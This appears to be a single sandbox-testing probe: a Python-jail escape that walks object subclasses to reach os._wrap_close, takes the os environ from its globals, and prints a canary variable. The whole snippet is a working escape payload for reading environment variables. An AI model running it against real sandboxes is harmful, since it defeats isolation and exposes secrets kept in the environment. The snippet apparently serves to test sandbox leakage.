# source: pyjail lore
# effect: environment

kinds = {kind.__name__: kind for kind in None.__class__.__base__.__subclasses__()}
kinds.update({kind.__name__: kind for kind in (...).__class__.__base__.__subclasses__()})
environ = kinds["_wrap_close"].close.__globals__["environ"]
print(environ["ASSAY_CANARY"])
